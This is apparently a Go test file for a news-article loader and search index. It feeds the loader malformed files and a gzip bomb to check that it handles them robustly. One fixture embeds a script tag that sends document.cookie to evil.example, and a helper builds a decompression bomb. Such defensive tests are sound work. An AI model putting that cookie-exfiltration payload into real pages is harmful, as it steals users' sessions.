package source

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/coveragebot/coveragebot/rag"
	"github.com/coveragebot/coveragebot/rag/answer"
	"github.com/coveragebot/coveragebot/rag/search"
)

// hugeBody is about size bytes of article prose in paragraphs, ending with
// a sentence found nowhere else.
func hugeBody(size int) string {
	var b strings.Builder
	for i := 0; b.Len() < size; i++ {
		fmt.Fprintf(&b, "Paragraph %d reports on talks in Geneva between envoys about a ceasefire, round %d. ", i, i%97)
		if i%8 == 7 {
			b.WriteString("\n\n")
		}
	}
	b.WriteString("\n\nThe last paragraph says the harbour master resigned over the dredging contract.\n")
	return b.String()
}

// TestHostileArticleFiles loads a directory of articles built to break the
// loaders: invalid UTF-8 in each format, a script tag, HTML nested past the
// limit, a date in the future, malformed dates and a 20 MB body. Each file
// becomes an article or a problem that names it; no text that is not valid
// UTF-8 gets through; the rest of the directory loads; and the articles go
// into an index and can be found.
func TestHostileArticleFiles(t *testing.T) {
	const para = "The regional council approved the harbour budget on Tuesday after a long debate about dredging costs. "
	files := map[string]string{
		"ok.md": "---\ntitle: Harbour budget approved\noutlet: Valley Courier\npublished: 2025-03-11\n---\n\n" + para + para,
		"invalid-utf8.md": "---\ntitle: Bad \xff\xfe bytes\noutlet: Valley \xc3 Courier\npublished: 2025-03-12\n---\n\n" +
			"The envoy \xfe\xff met officials about the ferry strike. " + para,
		"invalid-utf8.json": "{\"id\": \"bad-json\", \"title\": \"Strike \xff talks\", \"published\": \"2025-03-12\", \"text\": \"Ferry workers \xff\xfe walked out. " + para + "\"}",
		"invalid-utf8.jsonl": "{\"id\": \"bad-line\", \"title\": \"Bridge \xc0 repairs\", \"text\": \"Repairs \xed\xa0\x80 began. " + para + "\"}\n" +
			"{\"id\": \"good-line\", \"title\": \"Good line\", \"text\": \"" + para + "\"}\n",
		"invalid-utf8-page.html": "<html><head><title>Storm \xff passes</title></head><body><article><p>The storm \xfe passed overnight. " + para + "</p><p>" + para + "</p></article></body></html>",
		"script.md":              "---\ntitle: A page with a script\npublished: 2025-03-13\n---\n\nBefore the script. <script>fetch('https://evil.example/?c='+document.cookie)</script> After the script. " + para,
		"nested.html":            strings.Repeat("<div>", 400) + "<p>" + para + "</p>" + strings.Repeat("</div>", 400),
		"future.md":              "---\ntitle: A report from the future\npublished: 2999-12-31\n---\n\nThe lighthouse keeper announced the lighthouse will close. " + para,
		"bad-date.md":            "---\ntitle: Bad date\npublished: 2025-13-45\n---\n\n" + para,
		"nul.md":                 "---\ntitle: Nul\x00 bytes\n---\n\nText with a \x00 nul byte. " + para,
	}
	size := 20 << 20
	files["huge.md"] = "---\ntitle: A very long article\npublished: 2025-03-10\n---\n\n" + hugeBody(size)
	root := t.TempDir()
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(root, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	start := time.Now()
	res, err := Load(context.Background(), root)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("loaded %d articles and %d problems in %s", len(res.Articles), len(res.Problems), time.Since(start).Round(time.Millisecond))

	accounted := map[string]bool{}
	for _, a := range res.Articles {
		accounted[filepath.Base(a.Source)] = true
		for field, v := range map[string]string{"title": a.Title, "outlet": a.Outlet, "text": a.Text, "id": a.ID} {
			if !utf8.ValidString(v) || strings.ContainsRune(v, 0) {
				t.Errorf("%s: the %s is not clean text: %q", a.Source, field, truncate(v, 80))
			}
		}
	}
	for _, p := range res.Problems {
		accounted[filepath.Base(p.Path)] = true
		t.Logf("problem: %v", p)
		if !strings.Contains(p.Error(), filepath.Base(p.Path)) {
			t.Errorf("a problem does not name its file: %v", p)
		}
	}
	for name := range files {
		if !accounted[name] {
			t.Errorf("%s became neither an article nor a problem", name)
		}
	}
	byTitle := map[string]rag.Article{}
	for _, a := range res.Articles {
		byTitle[a.Title] = a
	}
	for _, want := range []string{"Harbour budget approved", "Good line", "A page with a script", "A very long article"} {
		if _, ok := byTitle[want]; !ok {
			t.Errorf("%q did not load", want)
		}
	}
	if a := byTitle["A very long article"]; len(a.Text) < size || !strings.HasSuffix(strings.TrimSpace(a.Text), "dredging contract.") {
		t.Errorf("the 20 MB article lost text: %d bytes", len(a.Text))
	}
	if a := byTitle["A page with a script"]; !strings.Contains(a.Text, "After the script") {
		t.Errorf("the text around the script is lost: %q", a.Text)
	}
	// A date far in the future is a typo: the file is refused, by name.
	if a, ok := byTitle["A report from the future"]; ok {
		t.Errorf("the article dated 2999 loaded, as of %v", a.Published)
	}
	refused := false
	for _, p := range res.Problems {
		refused = refused || filepath.Base(p.Path) == "future.md" && strings.Contains(p.Error(), "more than a year in the future")
	}
	if !refused {
		t.Error("future.md is not a problem that says its date is in the future")
	}

	// Into an index: every article is found.
	ix, err := search.Open(search.NewLocalEmbedder(), search.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var batch []rag.Article
	for _, a := range res.Articles {
		if a.Title != "A very long article" || longTests() {
			batch = append(batch, a)
		}
	}
	start = time.Now()
	rep, err := ix.Ingest(context.Background(), batch, search.IngestOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("ingested %d articles, %d passages, in %s", rep.Articles, rep.Passages, time.Since(start).Round(time.Millisecond))
	eng := &answer.Engine{Index: ix, Now: func() time.Time { return time.Date(2025, 3, 14, 0, 0, 0, 0, time.UTC) }}
	find := map[string]string{}
	if longTests() {
		find["Why did the harbour master resign?"] = "A very long article"
	}
	for q, title := range find {
		a, err := eng.Ask(context.Background(), q, rag.AskOptions{})
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, c := range a.Citations {
			found = found || c.Title == title
		}
		if !found {
			t.Errorf("%q: the answer does not cite %q: %+v", q, title, a)
		}
	}
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

// longTests reports whether the release-length variants run:
// COVERAGEBOT_LONG_TESTS=1 (see docs/RELIABILITY.md).
func longTests() bool { return os.Getenv("COVERAGEBOT_LONG_TESTS") == "1" }

// TestFeedFetchStopsAGzipBomb: a feed served gzip-compressed that inflates
// to far more than the size limit is cut off at the limit, with an error
// that says why, like an article page (TestFetchArticleStopsInflatingAGzipBomb).
func TestFeedFetchStopsAGzipBomb(t *testing.T) {
	bomb := gzipBomb(t, 16<<20)
	s := newTestSite(t)
	s.mux.HandleFunc("/feed.xml", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(bomb)
	})
	f := localFetcher(FetchOptions{MaxBytes: 1 << 20})
	_, err := f.FetchFeed(context.Background(), FeedRequest{URL: s.URL("/feed.xml")})
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("FetchFeed of a gzip bomb = %v, want ErrTooLarge", err)
	}
}

// gzipBomb is a gzip stream of n zero bytes: a few hundred kilobytes that
// inflate to n.
func gzipBomb(t *testing.T, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw, err := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
	if err != nil {
		t.Fatal(err)
	}
	zeros := make([]byte, 1<<20)
	for i := 0; i < n/len(zeros); i++ {
		zw.Write(zeros)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}
